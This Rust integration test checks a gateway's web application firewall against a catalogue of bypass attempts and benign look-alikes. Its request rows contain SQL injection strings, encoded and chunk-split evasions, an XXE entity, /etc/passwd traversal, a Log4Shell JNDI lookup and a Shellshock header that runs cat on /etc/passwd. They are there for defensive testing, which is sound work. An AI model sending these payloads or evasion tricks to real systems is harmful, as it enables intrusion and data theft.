//! Ways around content inspection, by name, through the whole stage in mode block: with the built-in
//! rules, and with the Core Rule Set where it is there.
//!
//! A row is refused as an attack (403), refused for what cannot be read in one way (another 4xx), or
//! passes.

use crate::gateway::echo;
use crate::process::{Directory, Process};

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum End {
    /// 403: rules found it.
    Attack,
    /// Any 4xx but 403: it is not what it says, or too much.
    Refused,
    /// Either of the two.
    Either,
    Passes,
}

use End::{Attack, Either, Passes, Refused};

impl End {
    fn is(self, status: u16) -> bool {
        match self {
            Attack => status == 403,
            Refused => (400..500).contains(&status) && status != 403,
            Either => (400..500).contains(&status),
            Passes => status == 200,
        }
    }
}

struct Row {
    name: &'static str,
    request: Vec<u8>,
    builtin: End,
    /// None: the rule set has its own opinion, which is not ours to test.
    crs: Option<End>,
}

const SQL: &str = "1' or '1'='1' union select password from users-- ";
const BASE64: &str = "MScgb3IgJzEnPScxJyB1bmlvbiBzZWxlY3QgcGFzc3dvcmQgZnJvbSB1c2Vycy0tIA==";
const JSON: &str = "application/json";
const FORM: &str = "application/x-www-form-urlencoded";

fn head(line: &str, fields: &str) -> String {
    format!(
        "{line} HTTP/1.1\r\nHost: h.example\r\nUser-Agent: okhttp/4.12.0\r\nAccept: application/json\r\n{fields}"
    )
}

fn get(target: &str, fields: &str) -> Vec<u8> {
    format!("{}\r\n", head(&format!("GET {target}"), fields)).into_bytes()
}

fn post(content_type: &str, body: impl AsRef<[u8]>) -> Vec<u8> {
    post_with(&format!("Content-Type: {content_type}\r\n"), body)
}

fn post_with(fields: &str, body: impl AsRef<[u8]>) -> Vec<u8> {
    let body = body.as_ref();
    let fields = format!("{fields}Content-Length: {}\r\n\r\n", body.len());
    [head("POST /v1/items", &fields).as_bytes(), body].concat()
}

fn part(fields: &str, content: &str) -> String {
    format!("--b\r\n{fields}\r\n\r\n{content}\r\n")
}

fn multipart(body: &str) -> Vec<u8> {
    post("multipart/form-data; boundary=b", body)
}

fn row(name: &'static str, request: Vec<u8>, builtin: End, crs: Option<End>) -> Row {
    Row {
        name,
        request,
        builtin,
        crs,
    }
}

fn json_rows() -> Vec<Row> {
    let attack = format!("{{\"a\":\"{SQL}\"}}");
    let deep = |count: usize| format!("{}1{}", "[".repeat(count), "]".repeat(count));
    let padded = format!("{{\"pad\":\"{}\",\"a\":\"{SQL}\"}}", "x".repeat(200 * 1024));
    let utf16: Vec<u8> = attack.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let keys: Vec<String> = (0..10_000).map(|at| format!("\"k{at}\":{at}")).collect();
    let both = |end| (end, Some(end));
    let rows = [
        ("json-control", post(JSON, &attack), both(Attack)),
        (
            "json-vendor-type",
            post("application/vnd.a+json", &attack),
            both(Attack),
        ),
        (
            "json-uppercase-type",
            post("APPLICATION/JSON", &attack),
            both(Attack),
        ),
        (
            "json-unicode-escapes",
            post(JSON, attack.replace('\'', "\\u0027")),
            both(Attack),
        ),
        (
            "json-key-payload",
            post(JSON, format!("{{\"{SQL}\":1}}")),
            both(Attack),
        ),
        (
            "json-nested-string",
            post(JSON, format!("{{\"a\":{:?}}}", attack)),
            both(Attack),
        ),
        (
            "json-as-text-plain",
            post("text/plain", &attack),
            both(Attack),
        ),
        (
            "json-without-type",
            post_with("", &attack),
            (Attack, Some(Either)),
        ),
        (
            "json-duplicate-key-bad-first",
            post(JSON, format!("{{\"a\":\"{SQL}\",\"a\":\"b\"}}")),
            both(Attack),
        ),
        (
            "json-duplicate-key-bad-last",
            post(JSON, format!("{{\"a\":\"b\",\"a\":\"{SQL}\"}}")),
            both(Attack),
        ),
        ("json-as-multipart-ct", multipart(&attack), both(Either)),
        ("form-as-json-ct", post(JSON, "a=b"), both(Either)),
        ("json-as-form-ct", post(FORM, &attack), both(Either)),
        (
            "json-bom",
            post(JSON, format!("\u{feff}{attack}")),
            both(Either),
        ),
        ("json5-comment", post(JSON, "{\"a\":1/*x*/}"), both(Either)),
        (
            "json-trailing-comma",
            post(JSON, "{\"a\":1,}"),
            both(Either),
        ),
        (
            "json-trailing-garbage",
            post(JSON, "{\"a\":1}x"),
            both(Either),
        ),
        ("json-nan", post(JSON, "{\"a\":NaN}"), both(Either)),
        (
            "json-utf16-charset",
            post("application/json; charset=utf-16", utf16),
            both(Either),
        ),
        (
            "json-lone-surrogate",
            post(JSON, "{\"a\":\"\\ud800\"}"),
            both(Either),
        ),
        ("json-depth-200", post(JSON, deep(200)), both(Either)),
        (
            "json-10k-keys",
            post(JSON, format!("{{{}}}", keys.join(","))),
            both(Either),
        ),
        (
            "json-base64-value",
            post(JSON, format!("{{\"a\":\"{BASE64}\"}}")),
            both(Attack),
        ),
        (
            "json-nul-in-key",
            post(JSON, "{\"a\\u0000.php\":1,\"f\":\"x.php\\u0000.jpg\"}"),
            (Attack, Some(Either)),
        ),
        (
            "json-proto-key",
            post(JSON, "{\"__proto__\":{\"admin\":true}}"),
            (Attack, None),
        ),
        (
            "json-fullwidth-quote",
            post(JSON, "{\"a\":\"x\u{ff07} or 1=1\"}"),
            (Attack, None),
        ),
        (
            "ndjson-second-record",
            post("application/x-ndjson", format!("{{\"a\":1}}\n{attack}\n")),
            both(Attack),
        ),
        (
            "json-pad-200kb-then-payload",
            post(JSON, padded),
            both(Refused),
        ),
    ];
    rows.into_iter()
        .map(|(name, request, (builtin, crs))| row(name, request, builtin, crs))
        .collect()
}

fn body_rows() -> Vec<Row> {
    let gzip = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\xab\x56\x4a\x54\xb2\x52\x32\x54\xaa\x05\x00\x8a\xc5\x4e\x6d\x07\x00\x00\x00";
    let escaped = SQL.replace(' ', "+").replace('\'', "%27");
    let field = "Content-Disposition: form-data; name=\"a\"";
    let file = "Content-Disposition: form-data; name=\"f\"; filename=\"a.txt\"";
    let end = "--b--\r\n";
    let attack = format!("{}{end}", part(field, SQL));
    let plain = part(field, "1");
    vec![
        row(
            "gzip-request-body",
            post_with(
                &format!("Content-Type: {JSON}\r\nContent-Encoding: gzip\r\n"),
                gzip,
            ),
            Refused,
            Some(Either),
        ),
        row(
            "gzip-bomb",
            post_with(
                &format!("Content-Type: {JSON}\r\nContent-Encoding: gzip\r\n"),
                vec![0_u8; 4096],
            ),
            Refused,
            Some(Either),
        ),
        row(
            "form-charset-ibm037",
            post(&format!("{FORM}; charset=ibm037"), "a=%81"),
            Refused,
            Some(Either),
        ),
        row(
            "double-charset-utf7",
            post(
                "text/plain; charset=utf-8; charset=utf-7",
                "+ADw-script+AD4-",
            ),
            Refused,
            Some(Either),
        ),
        row(
            "form-control",
            post(FORM, format!("a={escaped}")),
            Attack,
            Some(Attack),
        ),
        row(
            "form-name-payload",
            post(FORM, format!("{escaped}=1")),
            Attack,
            Some(Attack),
        ),
        row(
            "form-hpp-split",
            post(FORM, "a=1%27+union&a=+select+password+from+users--+"),
            Attack,
            Some(Attack),
        ),
        row(
            "form-percent-u",
            post(FORM, "a=1%u0027 or %u00271%u0027=%u00271"),
            Either,
            Some(Either),
        ),
        row(
            "form-overlong-utf8",
            post(FORM, "a=%c0%ae%c0%ae%c0%af"),
            Attack,
            None,
        ),
        row(
            "form-nul",
            post(FORM, "f=x.php%00.jpg"),
            Attack,
            Some(Either),
        ),
        row(
            "multipart-control",
            multipart(&attack),
            Attack,
            Some(Attack),
        ),
        row(
            "multipart-filename-star",
            multipart(&format!(
                "{}{end}",
                part(
                    "Content-Disposition: form-data; name=\"f\"; filename*=utf-8''a.php",
                    "x"
                )
            )),
            Refused,
            Some(Either),
        ),
        row(
            "multipart-preamble-payload",
            multipart(&format!("{SQL}\r\n{plain}{end}")),
            Either,
            Some(Either),
        ),
        row(
            "multipart-epilogue-payload",
            multipart(&format!("{plain}{end}{SQL}")),
            Either,
            Some(Either),
        ),
        row(
            "multipart-dup-name",
            multipart(&format!(
                "{}{end}",
                part(
                    "Content-Disposition: form-data; name=\"a\"; name=\"b\"",
                    "1"
                )
            )),
            Refused,
            Some(Either),
        ),
        row(
            "multipart-no-final-boundary",
            multipart(&plain),
            Refused,
            Some(Either),
        ),
        row(
            "multipart-two-boundaries",
            post("multipart/form-data; boundary=b; boundary=c", &attack),
            Either,
            Some(Either),
        ),
        row(
            "multipart-rfc2231-boundary",
            post("multipart/form-data; boundary*0=b", &attack),
            Either,
            Some(Either),
        ),
        row(
            "multipart-lf-only",
            multipart(&attack.replace("\r\n", "\n")),
            Either,
            Some(Either),
        ),
        row(
            "multipart-cte-base64",
            multipart(&format!(
                "{}{end}",
                part(
                    &format!("{field}\r\nContent-Transfer-Encoding: base64"),
                    BASE64
                )
            )),
            Either,
            Some(Either),
        ),
        row(
            "multipart-header-folding",
            multipart(&format!(
                "{}{end}",
                part("Content-Disposition: form-data;\r\n name=\"a\"", "1")
            )),
            Refused,
            Some(Either),
        ),
        row(
            "multipart-part-charset-first-bad-last-good",
            multipart(&format!(
                "{}{}{end}",
                part(
                    &format!("{field}\r\nContent-Type: text/plain; charset=utf-7"),
                    "+ADw-"
                ),
                part(
                    "Content-Disposition: form-data; name=\"c\"\r\nContent-Type: text/plain; charset=utf-8",
                    "1"
                )
            )),
            Refused,
            Some(Either),
        ),
        row(
            "multipart-filename-space-before-extension",
            multipart(&format!(
                "{}{end}",
                part(
                    "Content-Disposition: form-data; name=\"f\"; filename=\"shell .php\"",
                    "x"
                )
            )),
            Attack,
            None,
        ),
        row(
            "multipart-json-part",
            multipart(&format!(
                "{}{end}",
                part(
                    &format!("{field}\r\nContent-Type: application/json"),
                    &format!("{{\"x\":\"{SQL}\"}}")
                )
            )),
            Attack,
            Some(Attack),
        ),
        row(
            "multipart-file-content",
            multipart(&format!("{}{end}", part(file, SQL))),
            Passes,
            None,
        ),
        row(
            "xml-element",
            post("text/xml", format!("<a>{SQL}</a>")),
            Attack,
            Some(Attack),
        ),
        row(
            "xml-attribute",
            post("text/xml", format!("<a b=\"{SQL}\"/>")),
            Attack,
            Some(Attack),
        ),
        row(
            "xml-comment-split",
            post(
                "text/xml",
                "<a>1' or '1'=<!-- x -->'1' union select password from users-- </a>",
            ),
            Attack,
            Some(Attack),
        ),
        row(
            "xml-character-references",
            post("text/xml", format!("<a>{}</a>", SQL.replace('\'', "&#39;"))),
            Attack,
            Some(Attack),
        ),
        row(
            "xxe-dtd-external-entity",
            post(
                "text/xml",
                "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///x\">]><a>&b;</a>",
            ),
            Either,
            Some(Either),
        ),
        row(
            "xml-utf16",
            post("text/xml; charset=utf-16", "<a>1</a>"),
            Refused,
            Some(Either),
        ),
        row(
            "content-type-twice",
            post_with(
                &format!("Content-Type: {JSON}\r\nContent-Type: {FORM}\r\n"),
                "a=1",
            ),
            Refused,
            Some(Either),
        ),
        row(
            "content-type-twice-swapped",
            post_with(
                &format!("Content-Type: {FORM}\r\nContent-Type: {JSON}\r\n"),
                "{\"a\":1}",
            ),
            Refused,
            Some(Either),
        ),
    ]
}

fn head_rows() -> Vec<Row> {
    let escaped = SQL.replace(' ', "%20").replace('\'', "%27");
    let twice = escaped.replace('%', "%25");
    let chunked = |body: &str| {
        let fields = format!("Content-Type: {FORM}\r\nTransfer-Encoding: chunked\r\n\r\n{body}");
        head("POST /v1/items", &fields).into_bytes()
    };
    let parts = [
        "a=1%27+o",
        "r+%271%27%3D%271%27+union+sel",
        "ect+password+from+users--+",
        "",
    ];
    let split: String = parts
        .iter()
        .map(|part| format!("{:x}\r\n{part}\r\n", part.len()))
        .collect();
    let many: String = (0..300).map(|at| format!("X-H{at}: 1\r\n")).collect();
    let bomb: Vec<String> = (0..5000).map(|at| format!("c{at}=1")).collect();
    vec![
        row(
            "query-control",
            get(&format!("/v1/items?a={escaped}"), ""),
            Attack,
            Some(Attack),
        ),
        row(
            "query-double-encoded",
            get(&format!("/v1/items?a={twice}"), ""),
            Attack,
            Some(Attack),
        ),
        row(
            "path-segment-sqli",
            get(&format!("/v1/{escaped}"), ""),
            Attack,
            Some(Attack),
        ),
        row(
            "path-%3f-sqli",
            get(&format!("/v1/x%3Fa={escaped}"), ""),
            Either,
            Some(Either),
        ),
        row(
            "path-double-slash",
            get(&format!("//v1/items?a={escaped}"), ""),
            Either,
            Some(Either),
        ),
        row(
            "path-traversal-encoded",
            get("/v1/..%252f..%252fetc/passwd", ""),
            Either,
            Some(Either),
        ),
        row(
            "header-sqli",
            get("/v1/items", &format!("X-Filter: {SQL}\r\n")),
            Attack,
            Some(Attack),
        ),
        row(
            "authorization-sqli",
            get("/v1/items", &format!("Authorization: {SQL}\r\n")),
            Attack,
            Some(Attack),
        ),
        row(
            "header-not-opted-in",
            get("/v1/items", "X-Other: 1' or '1'='1\r\n"),
            Passes,
            None,
        ),
        row(
            "cookie-base64",
            get("/v1/items", &format!("Cookie: a=b; s={BASE64}\r\n")),
            Attack,
            Some(Attack),
        ),
        row(
            "cookie-base64-json",
            get(
                "/v1/items",
                "Cookie: s=eyJhIjoiMScgb3IgJzEnPScxJyB1bmlvbiBzZWxlY3QgMSwyLS0gIn0=\r\n",
            ),
            Attack,
            Some(Attack),
        ),
        row(
            "referer-sqli",
            get("/v1/items", &format!("Referer: {SQL}\r\n")),
            Attack,
            Some(Attack),
        ),
        row(
            "x-forwarded-for-xss",
            get(
                "/v1/items",
                "X-Forwarded-For: <script>alert(1)</script>\r\n",
            ),
            Either,
            Some(Either),
        ),
        row(
            "log4shell-header",
            get(
                "/v1/items",
                "X-Api-Version: ${${lower:j}ndi:ldap://a.example/x}\r\n",
            ),
            Attack,
            Some(Attack),
        ),
        row(
            "shellshock-header",
            get(
                "/v1/items",
                "User-Agent: () { :;}; /bin/cat /etc/passwd\r\n",
            ),
            Attack,
            Some(Attack),
        ),
        row(
            "chunk-extension",
            chunked("3;x=\"\r\n\r\n\"\r\na=1\r\n0\r\n\r\n"),
            Either,
            Some(Either),
        ),
        row("chunk-split-payload", chunked(&split), Attack, Some(Attack)),
        row(
            "trailer-payload",
            chunked(&format!("3\r\na=1\r\n0\r\nX-Filter: {SQL}\r\n\r\n")),
            Passes,
            Some(Passes),
        ),
        row(
            "300-headers",
            get("/v1/items", &many),
            Refused,
            Some(Either),
        ),
        row(
            "cookie-bomb",
            get("/v1/items", &format!("Cookie: {}\r\n", bomb.join("; "))),
            Refused,
            Some(Either),
        ),
    ]
}

/// What looks like the rows above and is not one.
fn benign_rows() -> Vec<Row> {
    let field = "Content-Disposition: form-data; name=\"a\"";
    let file = "Content-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\nContent-Type: text/plain";
    let multi = format!(
        "{}{}--b--\r\n",
        part(field, "O'Brien"),
        part(file, "a text")
    );
    vec![
        row("benign-json", post(JSON, "{\"a\":{\"name\":\"O'Brien\",\"n\":[1,2.5e3,null,true]}}"), Passes, Some(Passes)),
        row("benign-json-string", post(JSON, "{\"a\":\"{\\\"b\\\": [1, 2], \\\"c\\\": \\\"it's\\\"}\"}"), Passes, Some(Passes)),
        row("benign-json-base64", post(JSON, "{\"a\":\"SGVsbG8sIHRoaXMgaXMgYSB0ZXh0IGZvciB5b3Uu\"}"), Passes, Some(Passes)),
        row("benign-json-twice", post(JSON, "{\"a\":1,\"a\":2}"), Passes, Some(Passes)),
        row("benign-json-depth-60", post(JSON, format!("{}1{}", "[".repeat(60), "]".repeat(60))), Passes, None),
        row("benign-json-surrogates", post(JSON, "{\"a\":\"\\ud83d\\ude00 \u{fc}\"}"), Passes, Some(Passes)),
        row("benign-ndjson", post("application/x-ndjson", "{\"a\":1}\n{\"a\":2}\n"), Passes, None),
        row("benign-text", post("text/plain", "Dear all, see you at 5 o'clock."), Passes, None),
        row("benign-form", post(FORM, "a=O%27Brien&a=2&b=%C3%BC"), Passes, Some(Passes)),
        row("benign-multipart", multipart(&multi), Passes, Some(Passes)),
        row("benign-xml", post("text/xml", "<a b=\"c\"><!-- d -->e &amp; f</a>"), Passes, Some(Passes)),
        row("benign-charset", post("application/json; charset=UTF-8", "{\"a\":1}"), Passes, Some(Passes)),
        row("benign-path", get("/v1/J%C3%BCrg%20M%C3%BCller", ""), Passes, None),
        row("benign-header", get("/v1/items", "X-Filter: name eq bern and size gt 5\r\nAuthorization: Bearer eyJhbGciOiJFUzI1NiJ9.e30.c2ln\r\n"), Passes, None),
        row("benign-cookie", get("/v1/items", "Cookie: theme=dark; _ga=GA1.2.1234567890.1690000000; s=eyJpZCI6MTIzNCwibmFtZSI6IkFubmEifQ==\r\n"), Passes, None),
        row("benign-chunked", head("POST /v1/items", &format!("Content-Type: {FORM}\r\nTransfer-Encoding: chunked\r\n\r\n3\r\na=1\r\n0\r\n\r\n")).into_bytes(), Passes, Some(Passes)),
        row("benign-url", post(JSON, "{\"callback\":\"https://app.example/done?x=1&y=two#top\"}"), Passes, Some(Passes)),
    ]
}

fn rows() -> Vec<Row> {
    let all = [json_rows(), body_rows(), head_rows(), benign_rows()];
    all.into_iter().flatten().collect()
}

fn config(waf: &str) -> String {
    format!(
        r#"
[admin]
address = "127.0.0.1:0"
[[listener]]
address = "127.0.0.1:0"
[upstream.app]
address = "{}"
{waf}
[api.app]
paths = ["/**"]
methods = ["GET", "POST"]
contract = "none"
authentication = "none"
upstream = "app"
owner = "team"
max_body = "2MiB"
waf_headers = ["X-Filter", "Authorization"]
"#,
        echo()
    )
}

/// All rows against one process; those that end otherwise than they should.
fn wrong(name: &str, config: &str, expected: impl Fn(&Row) -> Option<End>) -> Vec<String> {
    let directory = Directory::new(name);
    directory.write("gateway.toml", config);
    let process = Process::start(&directory.path("gateway.toml"));
    let mut wrong = Vec::new();
    for row in rows() {
        let Some(end) = expected(&row) else { continue };
        let answer = process.connect().ask(&row.request);
        // Fields behind a body are not passed on, so that nothing in them has to be looked at.
        let text = String::from_utf8_lossy(&answer.body);
        if row.name == "trailer-payload" && text.contains("union") {
            wrong.push(format!("the trailer was passed on: {text}"));
        }
        if !end.is(answer.status) {
            let name = row.name;
            wrong.push(format!(
                "{name}: {end:?} expected, but {} {}",
                answer.status, text
            ));
        }
    }
    wrong
}

#[test]
fn nothing_gets_around_the_built_in_rules() {
    let config = config("[waf.builtin]\nmode = \"block\"");
    let wrong = wrong("waf-bypass", &config, |row| Some(row.builtin));
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn nothing_gets_around_the_core_rule_set() {
    let Some(root) = std::env::var_os("PORTCULLIS_CONFORMANCE") else {
        eprintln!("PORTCULLIS_CONFORMANCE is not set: NOTHING IS TESTED HERE");
        return;
    };
    let root = std::path::Path::new(&root).join("crs-v4");
    let root = root.display();
    let waf = format!(
        "[waf.crs]\nmode = \"block\"\non_unsupported = \"skip\"\n\
         rules = [\"{root}/crs-setup.conf.example\", \"{root}/rules/*.conf\"]\n\
         variables = {{ allowed_methods = \"GET POST\", allowed_request_content_type = \"|application/json| \
         |application/x-www-form-urlencoded| |multipart/form-data| |text/xml| |text/plain| \
         |application/vnd.a+json| |application/x-ndjson|\" }}"
    );
    let config = config(&waf).replace("waf_headers", "waf = \"crs\"\nwaf_headers");
    let wrong = wrong("waf-bypass-crs", &config, |row| row.crs);
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// By default nothing is refused, and a long upload is not held up to be looked at.
#[test]
fn by_default_attacks_are_told_and_long_uploads_stream_past() {
    let directory = Directory::new("waf-default");
    let config = config("").replace("[admin]", "[log]\naccess = \"access.log\"\n[admin]");
    directory.write("gateway.toml", &config);
    let mut process = Process::start(&directory.path("gateway.toml"));
    let mut client = process.connect();
    let attack = client.ask(get("/v1/items?a=1%27%20or%20%271%27=%271", ""));
    assert_eq!(attack.status, 200);
    let long = vec![b'x'; 900 * 1024];
    let upload = client.ask(post("application/octet-stream", &long));
    assert_eq!(upload.status, 200, "{upload:?}");
    let broken = client.ask(post(JSON, "{\"a\":1"));
    assert_eq!(broken.status, 200);
    process.signal(nix::sys::signal::Signal::SIGTERM);
    process.ended();
    let log = std::fs::read_to_string(directory.path("access.log")).unwrap();
    let lines: Vec<serde_json::Value> = log
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    let rules = |line: &serde_json::Value| -> Vec<u64> {
        let hits = line["waf"].as_array().cloned().unwrap_or_default();
        hits.iter()
            .map(|hit| hit["rule"].as_u64().unwrap())
            .collect()
    };
    assert_eq!(rules(&lines[0]), [1101, 1000], "{log}");
    assert_eq!(lines[0]["waf"][0]["field"], "ARGS:a");
    assert_eq!(lines[0]["waf"][0]["message"], "sql-injection");
    assert_eq!(lines[0]["waf"][1]["message"], "attack: score 5 of 5");
    assert_eq!(rules(&lines[1]), [0_u64; 0], "{log}");
    assert_eq!(rules(&lines[2]), [1706], "{log}");
}
